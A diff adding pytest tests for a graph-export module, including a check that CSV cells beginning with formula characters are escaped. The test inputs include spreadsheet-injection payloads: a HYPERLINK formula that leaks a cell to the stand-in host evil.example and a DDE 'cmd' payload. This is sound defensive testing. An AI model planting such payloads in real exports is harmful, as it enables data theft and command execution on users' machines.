@@ -10,7 +10,7 @@ import json
 import networkx as nx
 import pytest
 
-from app.analytics.export import export, flat_graph
+from app.analytics.export import export, flat_graph, to_csv
 from app.analytics.projection import project
 from app.errors import InvalidParameter
 from app.store import Store
@@ -69,3 +69,33 @@ def test_unknown_format_and_table_are_refused(mini: Store) -> None:
         export(mini, "pajek")
     with pytest.raises(InvalidParameter, match="edges, nodes"):
         export(mini, "csv", table="both")
+
+
+@pytest.mark.parametrize("fmt", ["graphml", "gexf", "json"])
+def test_a_table_is_refused_whatever_the_format(mini: Store, fmt: str) -> None:
+    with pytest.raises(InvalidParameter, match="edges, nodes"):
+        export(mini, fmt, table="both")
+
+
+@pytest.mark.parametrize(
+    "label",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_read_as_formulas_are_neutralised(label: str) -> None:
+    graph = nx.Graph()
+    graph.add_node("x", code=label, label=label)
+    graph.add_node("y", code="Y", label="Why")
+    graph.add_edge("x", "y", relations=["allied_with"], agreements=[label], weight=1)
+    for table in ("nodes", "edges"):
+        rows = list(csv.reader(io.StringIO(to_csv(graph, table).decode(), newline="")))
+        cells = [cell for row in rows for cell in row]
+        assert label not in cells
+        assert "'" + label in cells
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
